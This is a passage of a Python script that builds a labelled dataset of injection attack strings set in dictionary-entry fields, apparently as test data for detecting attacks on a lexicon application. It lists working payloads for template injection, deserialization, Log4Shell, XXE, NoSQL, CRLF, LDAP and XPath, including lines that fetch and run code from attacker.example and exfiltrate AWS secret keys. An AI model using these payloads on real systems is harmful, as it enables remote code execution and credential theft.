    v = f"http://{h}{rng.choice(SSRF_PORTS)}{rng.choice(SSRF_PATHS)}"
    enc = rng.choice(["", "urlenc"])
    if enc:
        v = quote(v, safe="")
    return ("citation-internal-url" + (f"+{enc}" if enc else ""), v)


# ---------------------------------------------------------------------------
# Code injection: SSTI, expression languages, eval, deserialization, XXE,
# Log4Shell-style lookups, prototype pollution, CSV formulas
# ---------------------------------------------------------------------------
CODE = [
    ("definition-ssti-jinja2", "lit. {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("definition-ssti-jinja2", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("etym-ssti-jinja2", "*watōr {% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("gloss-ssti-jinja2", "DEF-dog-PL {{ request.application.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ("comment-ssti-jinja2", "{{ config.items() }}"),
    ("comment-ssti-jinja2-filter", "{{ lipsum|attr('__globals__')|attr('__getitem__')('os')|attr('popen')('id')|attr('read')() }}"),
    ("headword-ssti-mako", "water ${__import__('os').popen('id').read()}"),
    ("headword-ssti-mako", "<%import subprocess%>${subprocess.check_output(['cat','/etc/passwd'])}"),
    ("definition-ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("definition-ssti-velocity", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("example-ssti-twig", "{{ ['id']|filter('system') }}"),
    ("example-ssti-twig", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("example-ssti-erb", "She's on the alert <%= `cat /etc/passwd` %>"),
    ("example-ssti-erb", "<%= File.read('/etc/passwd') %>"),
    ("headword-ssti-smarty", "{system('id')}"),
    ("headword-ssti-smarty", "{php}echo shell_exec('id');{/php}"),
    ("comment-ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("comment-ssti-handlebars", "{{#with (lookup this 'constructor')}}{{#with (lookup this 'constructor')}}{{this 'return process.mainModule.require(\"child_process\").execSync(\"id\")'}}{{/with}}{{/with}}"),
    ("definition-ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\", \"/c whoami\")"),
    ("definition-ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("cql-spel", "[lemma=\"#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}\"]"),
    ("cql-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("cql-el", "${pageContext.request.getSession().getServletContext().getRealPath('/')}"),
    ("cql-el", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("rule-python-eval", "__import__('os').system('id')"),
    ("rule-python-eval", "V → [+nasal] / _N' + __import__('subprocess').getoutput('cat /etc/passwd') + '"),
    ("rule-python-eval", "(lambda: [c for c in ().__class__.__mro__[1].__subclasses__() if c.__name__ == 'catch_warnings'][0]()._module.__builtins__['__import__']('os').system('id'))()"),
    ("rule-python-format", "{entry.__class__.__init__.__globals__[app].config[SECRET_KEY]}"),
    ("rule-node-eval", "require('child_process').execSync('cat /etc/passwd').toString()"),
    ("rule-node-eval", "s/x/y/; process.binding('spawn_sync'); this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    ("rule-php-eval", "t → ɾ\"; system($_GET['c']); //"),
    ("rule-php-eval", "'.system('id').'"),
    ("rule-ruby-eval", "#{`id`}"),
    ("import-pickle", "cos\nsystem\n(S'id'\ntR."),
    ("import-pickle", "cposix\nsystem\n(S'curl attacker.example/x|sh'\ntR."),
    ("import-yaml", "headword: water\nipa: !!python/object/apply:os.system ['id']"),
    ("import-yaml", "!!python/object/apply:subprocess.check_output [[cat, /etc/passwd]]"),
    ("import-yaml-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("import-php-serialized", "O:13:\"EntryExporter\":1:{s:4:\"path\";s:23:\"/var/www/html/shell.php\";}"),
    ("import-jsonnet-type", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c whoami\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("import-jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}]"),
    ("import-fastjson-type", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.3:1099/o\",\"autoCommit\":true}"),
    ("import-xxe", "<?xml version=\"1.0\"?>\n<!DOCTYPE entry [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<entry><form><orth>&x;</orth></form></entry>"),
    ("import-xxe", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE TEI [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]>\n<TEI><text><body><entry><form><orth>Wasser</orth></form></entry></body></text></TEI>"),
    ("import-xxe", "<!DOCTYPE lmf [<!ENTITY net SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><LexicalResource><Lexicon><LexicalEntry id=\"e1\"><Lemma writtenForm=\"&net;\"/></LexicalEntry></Lexicon></LexicalResource>"),
    ("import-xxe-php-filter", "<!DOCTYPE r [<!ENTITY s SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]><r>&s;</r>"),
    ("import-xinclude", "<entry xmlns:xi=\"http://www.w3.org/2001/XInclude\"><def><xi:include href=\"file:///etc/passwd\" parse=\"text\"/></def></entry>"),
    ("import-xxe-billion-laughs", "<!DOCTYPE d [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY e \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">]><d>&f;&f;&f;&f;&f;&f;&f;&f;</d>"),
    ("import-xslt-exec", "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:rt=\"http://xml.apache.org/xalan/java/java.lang.Runtime\"><xsl:template match=\"/\"><xsl:value-of select=\"rt:exec(rt:getRuntime(),'id')\"/></xsl:template></xsl:stylesheet>"),
    ("headword-log4shell", "water ${jndi:ldap://attacker.example:1389/a}"),
    ("comment-log4shell", "${jndi:rmi://203.0.113.21:1099/Lexicon}"),
    ("headword-log4shell-nested", "${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://x.attacker.example/o}"),
    ("ipa-log4shell-default", "/ˈwɔːtə/ ${${::-j}${::-n}${::-d}${::-i}:dns://oob.attacker.example/w}"),
    ("citation-log4shell-env", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.oob.attacker.example/k}"),
    ("search-log4shell-upper", "${${upper:j}ndi:${upper:l}dap://198.51.100.60/z}"),
    ("import-prototype-pollution", "{\"headword\":\"water\",\"__proto__\":{\"isAdmin\":true}}"),
    ("import-prototype-pollution", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("search-prototype-pollution", "__proto__[canEdit]=true"),
    ("search-prototype-pollution", "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    ("import-csv-formula", "=HYPERLINK(\"http://attacker.example/?d=\"&A2&B2,\"see s.v. water\")"),
    ("import-csv-formula", "=cmd|' /C calc'!A0"),
    ("import-csv-formula", "@SUM(1+1)*cmd|' /C powershell iwr attacker.example/p.ps1'!A0"),
    ("export-csv-formula", "+WEBSERVICE(\"http://attacker.example/?\"&ENCODEURL(C3))"),
    ("export-csv-formula", "-2+3+cmd|' /C notepad'!'A1'"),
    ("export-csv-formula", "=IMPORTXML(CONCAT(\"https://attacker.example/?v=\",A1:C40),\"//a\")"),
    ("definition-ssti-jinja2+hex-escape", "{{ ''['\\x5f\\x5fclass\\x5f\\x5f']['\\x5f\\x5fmro\\x5f\\x5f'][1]['\\x5f\\x5fsubclasses\\x5f\\x5f']() }}"),
    ("comment-log4shell+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fq%7D"),
    ("plain-ssti-jinja2", "{{7*'7'}}{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/x}"),
    ("plain-xxe", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/shadow\">]><x>&e;</x>"),
    ("plain-prototype-pollution", "{\"__proto__\":{\"polluted\":\"yes\"}}"),
    ("plain-csv-formula", "=1+2;=cmd|'/c calc'!A1"),
    ("plain-python-eval", "__import__('os').popen('whoami').read()"),
    ("plain-ssti-freemarker", "<#assign e=\"freemarker.template.utility.Execute\"?new()>${e(\"whoami\")}"),
    ("plain-yaml", "!!python/object/apply:os.system [\"whoami\"]"),
]
CODE_PREFIX = ["water ", "s.v. eau ", "lit. ", "*watōr ", "DEF-dog-PL "]
CODE_CORES = [
    ("ssti-jinja2", "{{ cycler.__init__.__globals__.os.popen('uname -a').read() }}"),
    ("ssti-mako", "${__import__('subprocess').getoutput('whoami')}"),
    ("log4shell", "${jndi:ldap://oob.attacker.example/e}"),
    ("ssti-freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"whoami\")}"),
]


def gen_code(rng):
    tech, core = rng.choice(CODE_CORES)
    v = rng.choice(CODE_PREFIX) + core
    enc = rng.choice(["", "urlenc", "unicode-escape"])
    if enc == "urlenc":
        v = quote(v, safe="")
    elif enc == "unicode-escape":
        v = "".join(f"\\u{ord(c):04x}" if c in "{}$_" else c for c in v)
    ctx = rng.choice(["definition", "comment", "example"])
    return (f"{ctx}-{tech}" + (f"+{enc}" if enc else ""), v)


# ---------------------------------------------------------------------------
# NoSQL injection (MongoDB-style query objects built from the field)
# ---------------------------------------------------------------------------
NOSQLI = [
    ("search-operator-ne", "{\"headword\": {\"$ne\": null}}"),
    ("search-operator-gt", "{\"login\": \"admin\", \"password\": {\"$gt\": \"\"}}"),
    ("search-query-param", "password[$ne]=x&login=admin"),
    ("search-query-param", "headword[$regex]=.*&status[$ne]=published"),
    ("search-regex", "{\"api_token\": {\"$regex\": \"^a\"}}"),
    ("search-where", "{\"$where\": \"sleep(5000) || true\"}"),
    ("search-where", "{\"$where\": \"this.passwordHash.match(/^\\\\$2b/)\"}"),
    ("headword-where-string", "water'; return true; var x='"),
    ("headword-where-string", "eau' || this.role == 'admin' || 'a'=='b"),
    ("cql-operator-or", "{\"$or\": [{}, {\"lemma\": \"water\"}]}"),
    ("cql-operator-in", "{\"lemma\": {\"$in\": [\"water\"]}, \"owner\": {\"$exists\": true}, \"draft\": {\"$ne\": false}}"),
    ("comment-expr", "{\"$expr\": {\"$gt\": [{\"$strLenCP\": \"$passwordHash\"}, 0]}}"),
    ("comment-function", "{\"$where\": {\"$function\": {\"body\": \"function(){ while(true){} }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("import-aggregation-lookup", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"editor\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("ipa-operator-nin", "{\"ipa\": {\"$nin\": []}}"),
    ("gloss-query-param", "gloss[$where]=1;while(1){}"),
    ("headword-json-injection", "water\", \"$where\": \"1 == 1"),
    ("search-regex-options", "{\"headword\": {\"$regex\": \".*\", \"$options\": \"si\"}, \"visibility\": {\"$ne\": \"public\"}}"),
    ("plain-operator-ne", "{\"$ne\": \"\"}"),
    ("plain-query-param", "user[$gt]=&pass[$gt]="),
]
NOSQL_FIELDS = ["headword", "lemma", "ipa", "editor", "api_token", "password"]
NOSQL_OPS = ['{{"{f}": {{"$gt": ""}}}}', '{{"{f}": {{"$ne": "x"}}}}',
             '{{"{f}": {{"$regex": "^.{{{n}}}"}}}}', '{f}[$exists]=true']


def gen_nosqli(rng):
    f = rng.choice(NOSQL_FIELDS)
    v = rng.choice(NOSQL_OPS).format(f=f, n=rng.randint(1, 9))
    enc = rng.choice(["", "urlenc"])
    if enc:
        v = quote(v, safe="")
    return ("search-operator" + (f"+{enc}" if enc else ""), v)


# ---------------------------------------------------------------------------
# CRLF: log forging, HTTP header/response splitting, mail header injection
# ---------------------------------------------------------------------------
CRLF = [
    ("headword-log-forging", "water\n2024-05-02 09:14:03 INFO auth: login ok user=admin ip=10.0.0.2"),
    ("search-log-forging", "eau\r\n[2024-05-02T09:15:00Z] INFO export completed by editor=root"),
    ("comment-log-forging", "+1\n127.0.0.1 - admin [02/May/2024:09:16:00 +0000] \"POST /admin/delete HTTP/1.1\" 200 0"),
    ("gloss-log-forging", "DEF-dog-PL\nsee-PST\nWARN audit: revision 8812 approved by maria"),
    ("headword-ansi-escape", "Wasser\u001b[2J\u001b[1;1H\u001b[32mALL CHECKS PASSED\u001b[0m"),
    ("search-header-injection", "water\r\nSet-Cookie: session=attacker-fixed-0000; Path=/"),
    ("search-header-injection", "eau\r\nLocation: https://attacker.example/login"),
    ("export-filename-header", "lexicon.csv\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("export-filename-header", "water.pdf\"\r\nX-Accel-Redirect: /internal/backup.sql"),
    ("citation-redirect-splitting", "/wb/Wasser\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<h1>Session expired</h1>"),
    ("headword-header-injection+urlenc", "water%0d%0aSet-Cookie:%20admin=1"),
    ("search-header-injection+double-urlenc", "eau%250d%250aLocation:%20https://attacker.example/"),
    ("search-header-injection+utf8-truncation", "drop%E5%98%8A%E5%98%8DSet-Cookie:%20sid=attacker"),
    ("contact-mail-header", "maria@example.org\r\nBcc: list@attacker.example"),
    ("contact-mail-header", "Query about 'water'\nCc: everyone@attacker.example\nX-Priority: 1"),
    ("contact-mail-header", "editor@example.org\nContent-Type: text/html\n\n<a href=\"https://attacker.example/\">Reset your password</a>"),
    ("contact-smtp-smuggling", "Thanks!\r\n.\r\nMAIL FROM:<admin@lexicon.example>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nSubject: account locked\r\n\r\nclick https://attacker.example/\r\n."),
    ("contact-mail-header+urlenc", "maria@example.org%0ABcc:%20a@attacker.example"),
    ("ipa-log-forging", "/ˈwɔːtə/\r\n2024-05-02 10:00:00 ERROR db: connection refused (ignore previous entries)"),
    ("citation-header-injection", "https://www.dwds.de/wb/Wasser\r\nX-Forwarded-For: 127.0.0.1"),
    ("etym-log-forging", "*watōr > water\n[security] user=mallory action=grant-admin result=success"),
    ("comment-log-json", "ok\n{\"level\":\"info\",\"msg\":\"password reset\",\"user\":\"admin\",\"ok\":true}"),
    ("definition-unicode-line-separator", "n. water\u2028INFO login ok user=admin"),
    ("plain-header-injection", "\r\nSet-Cookie: x=1"),
    ("plain-log-forging", "x\nINFO user admin logged in"),
    ("plain-header-injection+urlenc", "%0d%0aX-Injected: 1"),
]
CRLF_WORDS = ["water", "eau", "Wasser", "вода", "drop", "select"]
CRLF_HEADERS = ["Set-Cookie: sid=attacker", "Location: //attacker.example/",
                "X-Admin: true", "Refresh: 0; url=https://attacker.example/"]


def gen_crlf(rng):
    v = rng.choice(CRLF_WORDS) + "\r\n" + rng.choice(CRLF_HEADERS)
    enc = rng.choice(["", "urlenc"])
    if enc:
        v = quote(v, safe="/:")
    return ("search-header-injection" + (f"+{enc}" if enc else ""), v)


# ---------------------------------------------------------------------------
# LDAP filters (contributor directory) and XPath (TEI XML dictionary lookups)
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("contact-ldap-wildcard", "*)(uid=*))(|(uid=*"),
    ("contact-ldap-and-true", "admin)(&)"),
    ("contact-ldap-or", "maria*)(|(objectClass=*)"),
    ("contact-ldap-attribute", "*)(userPassword=*"),
    ("contact-ldap-blind", "admin)(userPassword=a*"),
    ("comment-ldap-or", "x)(|(memberOf=cn=admins,ou=groups,dc=lexicon,dc=example)"),
    ("contact-ldap-null", "admin)%00"),
    ("headword-xpath-boolean", "water' or '1'='1"),
    ("headword-xpath-union", "eau'] | //user/password | //entry[form='"),
    ("headword-xpath-blind", "Wasser' and substring(//user[1]/password,1,1)='a' and '1'='1"),
    ("headword-xpath-count", "x' or count(/*)=1 or 'a'='b"),
    ("cql-xpath-name", "[lemma=\"drop\"]' or name(/*[1])='TEI' or '"),
    ("gloss-xpath-string-length", "DEF-dog-PL\" or string-length(//editor[1]/token)>20 or \""),
    ("etym-xpath-doc", "*watōr') or doc('http://attacker.example/x.xml')/a or ('"),
    ("search-xpath-comment-nodes", "'] | //comment() | //*['"),
    ("ipa-xpath-or", "/ˈwɔːtə/\" or \"\"=\""),
    ("plain-ldap", "*)(cn=*"),
    ("plain-xpath", "' or 1=1 or ''='"),
]
LDAP_NAMES = ["maria", "ahmed", "editor", "li.wei", "admin", "bot"]
LDAP_ATTRS = ["userPassword", "mail", "telephoneNumber", "description"]


def gen_ldap_xpath(rng):
    n = rng.choice(LDAP_NAMES)
    a = rng.choice(LDAP_ATTRS)
    if rng.random() < 0.5:
        return ("contact-ldap-attribute", f"{n}*)({a}=*")
    return ("headword-xpath-boolean", f"{n}' or //user[name='{n}']/{a.lower()} or '")


CATEGORIES = [
    ("sqli", SQLI, gen_sqli),
    ("xss", XSS, gen_xss),
    ("cmdi", CMDI, gen_cmdi),
    ("traversal", TRAVERSAL, gen_traversal),
    ("ssrf", SSRF, gen_ssrf),
    ("code", CODE, gen_code),
    ("nosqli", NOSQLI, gen_nosqli),
    ("crlf", CRLF, gen_crlf),
    ("ldap-xpath", LDAP_XPATH, gen_ldap_xpath),
]


def build():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    lit_counts = {}
    for cat, literals, gen in CATEGORIES:
        target = TARGETS[cat]
        vals = []
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            vals.append((cls, v))
        lit_counts[cat] = len(vals)
        if len(vals) > target:
            raise SystemExit(f"too many literals in {cat}: {len(vals)}")
        tries = 0
        while len(vals) < target:
            tries += 1
            if tries > 10000:
                raise SystemExit(f"template for {cat} cannot produce enough values")
            cls, v = gen(rng)
            if v in seen:
                continue
            seen.add(v)
            vals.append((cls, v))
        for cls, v in vals:
            rows.append((cat, cls, v))
    return rows, lit_counts


def main():
    rows, lit_counts = build()
    out = []
    for i, (cat, cls, v) in enumerate(rows, 1):
        assert isinstance(v, str) and v and len(v) <= 1800, (cat, v)
        out.append({"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls,
                    "label": "attack", "value": v})
    assert len({o["value"] for o in out}) == len(out)
    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for o in out:
            f.write(json.dumps(o, ensure_ascii=False) + "\n")
    total_lit = 0
    for cat, _, _ in CATEGORIES:
        n = sum(1 for o in out if o["category"] == cat)
        total_lit += lit_counts[cat]
        print(f"{cat:12s} {n:4d}  literals {lit_counts[cat]:3d} ({100 * lit_counts[cat] / n:.0f}%)")
    plain = sum(1 for o in out if o["class"].startswith("plain-"))
    enc = sum(1 for o in out if "+" in o["class"])
    print(f"total {len(out)}  literals {total_lit} ({100 * total_lit / len(out):.0f}%)"
          f"  plain {plain}  encoded {enc}  -> {path}")


if __name__ == "__main__":
    main()
